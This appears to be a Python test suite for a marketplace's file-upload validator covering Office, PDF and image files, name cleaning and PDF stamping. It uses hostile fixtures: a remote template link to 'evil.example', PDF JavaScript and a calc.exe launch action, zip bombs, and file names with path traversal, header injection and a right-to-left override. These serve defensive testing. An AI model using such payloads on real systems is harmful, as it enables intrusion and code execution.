"""What may be stored: every kind taken, and the hostile ones refused with a reason."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from marketplace.files.rulebook import Unfit, clean_name, images, pdf, stamping
from marketplace.files.rulebook.examining import examine
from tests.factories.files import (
    CONTENT_TYPES,
    DOCUMENT,
    docx_bytes,
    image_bytes,
    pdf_bytes,
    zip_bytes,
)


def kind_of(data: bytes, name: str) -> str:
    return examine(io.BytesIO(data), name)[0].content_type


def reason_against(data: bytes, name: str) -> str:
    with pytest.raises(Unfit) as caught:
        examine(io.BytesIO(data), name)
    return str(caught.value.args[0])


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (pdf_bytes(), "a.pdf", "application/pdf"),
        (pdf_bytes(), "A.PDF", "application/pdf"),
        (
            docx_bytes(),
            "a.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": DOCUMENT}),
            "a.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": DOCUMENT}),
            "a.pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
        (image_bytes("JPEG"), "a.jpg", "image/jpeg"),
        (image_bytes("JPEG"), "a.jpeg", "image/jpeg"),
        (image_bytes("PNG"), "a.png", "image/png"),
    ],
)
def test_each_kind_is_known_by_content(data, name, content_type):
    assert kind_of(data, name) == content_type


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg"),
        (b"<html></html>", "a.html"),
        (zip_bytes({"a.txt": b"x"}), "a.zip"),
        (b"MZ", "a.exe"),
        (pdf_bytes(), "noextension"),
        (pdf_bytes(), ""),
    ],
)
def test_other_kinds_are_refused(data, name):
    assert reason_against(data, name) == "只接受 PDF、docx、xlsx、pptx、jpg、png 文件"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<html><script>alert(1)</script></html>", "a.pdf"),
        (image_bytes("PNG"), "a.jpg"),
        (b"GIF89a<html>", "a.png"),
        (pdf_bytes(), "a.docx"),
        (docx_bytes(), "a.xlsx"),
        (zip_bytes({"a.txt": b"x"}), "a.docx"),
        (b"\n\n%PDF-1.7", "a.pdf"),
    ],
)
def test_name_and_content_must_agree(data, name):
    assert reason_against(data, name) == "文件内容与扩展名不符"


def test_empty_file_is_refused():
    assert reason_against(b"", "a.pdf") == "文件是空的"


@pytest.mark.parametrize("name", ["a.docm", "a.xlsm", "A.PPTM"])
def test_macro_formats_are_refused_by_name(name):
    assert "宏" in reason_against(docx_bytes(), name)


@pytest.mark.parametrize("name", ["a.doc", "a.xls", "a.wps"])
def test_old_formats_are_told_what_to_do(name):
    assert "另存为" in reason_against(b"\xd0\xcf\x11\xe0", name)


# --- Office -----------------------------------------------------------------------------------
def test_macro_in_a_plain_docx_is_refused():
    assert "宏" in reason_against(docx_bytes(word__vbaProject_dot_bin=b"x"), "a.docx")


def test_macro_content_type_is_refused():
    types = CONTENT_TYPES.replace(
        b"application/xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    data = zip_bytes({"[Content_Types].xml": types, "word/document.xml": DOCUMENT})
    assert "宏" in reason_against(data, "a.docx")


def relationship(kind: str, mode: str = "External") -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{kind}" Target="http://evil.example/t.dotm" '
        f'TargetMode="{mode}"/></Relationships>'
    ).encode()


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_external_parts_are_refused(kind):
    data = docx_bytes(word___rels__settings_dot_xml_dot_rels=relationship(kind))
    assert "外部对象" in reason_against(data, "a.docx")


def test_hyperlinks_are_taken():
    data = docx_bytes(word___rels__document_dot_xml_dot_rels=relationship("hyperlink"))
    assert kind_of(data, "a.docx").endswith("wordprocessingml.document")


def test_nested_archive_is_refused():
    data = docx_bytes(word__embeddings__a_dot_zip=zip_bytes({"a": b"x"}))
    assert "内嵌" in reason_against(data, "a.docx")


def test_entity_declarations_are_refused():
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    assert (
        reason_against(docx_bytes(word__document_dot_xml=bomb), "a.docx") == "文件已损坏，无法打开"
    )


def test_broken_zip_is_refused():
    assert reason_against(docx_bytes()[:80], "a.docx") == "文件已损坏，无法打开"


def test_bomb_by_size_is_refused():
    data = docx_bytes(big1_dot_xml=bytes(150 << 20), big2_dot_xml=bytes(60 << 20))
    assert len(data) < 1 << 20
    assert reason_against(data, "a.docx") == "文件解压后过大"


def test_bomb_by_ratio_is_refused():
    assert reason_against(docx_bytes(big_dot_xml=bytes(20 << 20)), "a.docx") == "文件压缩比异常"


def test_bomb_that_lies_about_its_size_is_refused():
    data = bytearray(docx_bytes(big_dot_xml=bytes(20 << 20)))
    true, false = struct.pack("<L", 20 << 20), struct.pack("<L", 10)
    assert data.count(true) >= 1
    crc = struct.pack("<L", zlib.crc32(bytes(20 << 20)))
    data = data.replace(true, false).replace(crc, struct.pack("<L", zlib.crc32(bytes(10))))
    assert reason_against(bytes(data), "a.docx") in {"文件压缩比异常", "文件已损坏，无法打开"}


def test_too_many_entries_are_refused():
    data = zip_bytes({f"p{number}.xml": b"" for number in range(2_001)})
    assert reason_against(data, "a.docx") == "文件内部结构过于复杂"


def test_encrypted_entry_is_refused():
    data = bytearray(docx_bytes())
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        data[place + 8] |= 1
        place = data.find(b"PK\x01\x02", place + 4)
    assert "密码" in reason_against(bytes(data), "a.docx")


def test_doubled_entry_is_refused():
    buffer = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(buffer, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", b"<x/>")
    assert reason_against(buffer.getvalue(), "a.docx") == "文件已损坏，无法打开"


# --- PDF --------------------------------------------------------------------------------------
def script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")


@pytest.mark.parametrize(
    "root",
    [
        {"OpenAction": script()},
        {"Names": pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())},
        {"Names": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())},
        {"OpenAction": pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="calc.exe")},
        {"AA": pikepdf.Dictionary(WC=pikepdf.Array([pikepdf.Dictionary(O=script())]))},
        {"X": pikepdf.Dictionary(Type=pikepdf.Name("/Filespec"), EF=pikepdf.Dictionary())},
    ],
)
def test_active_pdf_is_refused(root):
    assert "请去除后再上传" in reason_against(pdf_bytes(**root), "a.pdf")


def test_script_on_a_page_is_found():
    document = pikepdf.new()
    page = document.add_blank_page()
    page.obj["/AA"] = document.make_indirect(pikepdf.Dictionary(O=script()))
    buffer = io.BytesIO()
    document.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert "脚本" in reason_against(buffer.getvalue(), "a.pdf")


def test_pdf_with_password_is_refused():
    document = pikepdf.new()
    document.add_blank_page()
    buffer = io.BytesIO()
    document.save(buffer, encryption=pikepdf.Encryption(user="u", owner="o"))
    assert "密码" in reason_against(buffer.getvalue(), "a.pdf")


def test_broken_pdf_is_refused():
    assert reason_against(b"%PDF-1.7\nnothing", "a.pdf") == "PDF 已损坏，无法打开"


def test_pdf_page_limit(monkeypatch):
    monkeypatch.setattr(pdf, "MAX_PAGES", 2)
    assert kind_of(pdf_bytes(2), "a.pdf") == "application/pdf"
    assert reason_against(pdf_bytes(3), "a.pdf") == "PDF 页数过多，最多 2 页"


# --- pictures ---------------------------------------------------------------------------------
def test_place_and_hidden_bytes_are_dropped():
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (35.0, 6.0, 0.0)}
    exif[0x0110] = "SecretPhone"
    data = image_bytes("JPEG", exif=exif.tobytes()) + b"<script>hidden</script>"
    assert b"SecretPhone" in data
    _kind, kept = examine(io.BytesIO(data), "a.jpg")
    assert kept is not None
    assert b"SecretPhone" not in kept
    assert b"hidden" not in kept
    with Image.open(io.BytesIO(kept)) as picture:
        assert picture.size == (40, 30)
        assert not picture.getexif()


def test_picture_is_turned_upright():
    exif = Image.Exif()
    exif[0x0112] = 6
    _kind, kept = examine(io.BytesIO(image_bytes("JPEG", exif=exif.tobytes())), "a.jpg")
    with Image.open(io.BytesIO(kept)) as picture:
        assert picture.size == (30, 40)


def test_png_text_is_dropped_and_transparency_kept():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "secret")
    buffer = io.BytesIO()
    Image.new("RGBA", (4, 4), (1, 2, 3, 128)).save(buffer, "PNG", pnginfo=info)
    _kind, kept = examine(io.BytesIO(buffer.getvalue()), "a.png")
    assert b"secret" not in kept
    with Image.open(io.BytesIO(kept)) as picture:
        assert picture.getpixel((0, 0)) == (1, 2, 3, 128)


def test_huge_picture_is_refused_before_decoding():
    def chunk(name: bytes, data: bytes) -> bytes:
        body = name + data
        return struct.pack(">L", len(data)) + body + struct.pack(">L", zlib.crc32(body))

    header = struct.pack(">LLBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")
    assert reason_against(data, "a.png") == "图片尺寸过大，请缩小后再上传"


def test_pixel_limit_is_exact(monkeypatch):
    monkeypatch.setattr(images, "MAX_PIXELS", 40 * 30)
    assert kind_of(image_bytes("PNG"), "a.png") == "image/png"
    assert "尺寸过大" in reason_against(image_bytes("PNG", (41, 30)), "a.png")


def test_cut_off_picture_is_refused():
    data = image_bytes("JPEG", (400, 300))
    assert reason_against(data[: len(data) // 2], "a.jpg") == "图片已损坏，无法打开"


# --- names ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("方案 v2.pdf", "方案 v2.pdf"),
        ("C:\\Users\\a\\报告.docx", "报告.docx"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ('a"b<c>.pdf', "a b c.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie x.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
        (".pdf", "pdf"),
        ("", "file"),
        ("\ud800x.pdf", "x.pdf"),
        ("长" * 300 + ".PDF", "长" * 116 + ".pdf"),
    ],
)
def test_names_are_cleaned(given, kept):
    assert clean_name(given) == kept


def test_a_pdf_that_is_encrypted_and_opens_is_refused_too():
    """Its owner has locked it; a copy with the reader's stamp would have to break the lock."""
    document = pikepdf.new()
    document.add_blank_page()
    buffer = io.BytesIO()
    document.save(buffer, encryption=pikepdf.Encryption(user="", owner="o"))
    assert "加密" in reason_against(buffer.getvalue(), "a.pdf")


def test_a_stamp_stands_upright_on_every_page_however_it_is_turned(tmp_path):
    document = pikepdf.new()
    for turned in (0, 90, 180, 270):
        document.add_blank_page(page_size=(600, 400))
        document.pages[-1].obj.Rotate = turned
    document.pages[0].obj.CropBox = pikepdf.Array([100, 100, 300, 300])
    source = io.BytesIO()
    document.save(source)
    line = "JG2026-7KQ4ZM-H  2026-11-28 21:42:01 UTC+8"
    stamping.stamp(source, line, tmp_path / "copy.pdf")
    # The matrix that places the sheet turns by as much as the viewer turns the page back.
    turns = {0: b"1 0 0 1 100 100", 90: b"0 1 -1 0 600 0", 180: b"-1 0 0 -1 600 400"}
    with pikepdf.open(tmp_path / "copy.pdf") as copy:
        assert [page.rotation for page in copy.pages] == [0, 90, 180, 270]
        for page in copy.pages:
            sheets = [sheet.read_bytes() for sheet in page.Resources.XObject.values()]
            assert [sheet.count(line.encode()) for sheet in sheets] == [2]
            assert turns.get(page.rotation, b"0 -1 1 0 0 400") in page.Contents.read_bytes()


def test_what_cannot_be_stamped_is_refused(tmp_path):
    document = pikepdf.new()
    document.add_blank_page()
    locked = io.BytesIO()
    document.save(locked, encryption=pikepdf.Encryption(user="", owner="o"))
    for data, line in ((locked.getvalue(), "x"), (b"%PDF-1.7\nnothing", "x"), (pdf_bytes(), "沂")):
        with pytest.raises(Unfit):
            stamping.stamp(io.BytesIO(data), line, tmp_path / "copy.pdf")
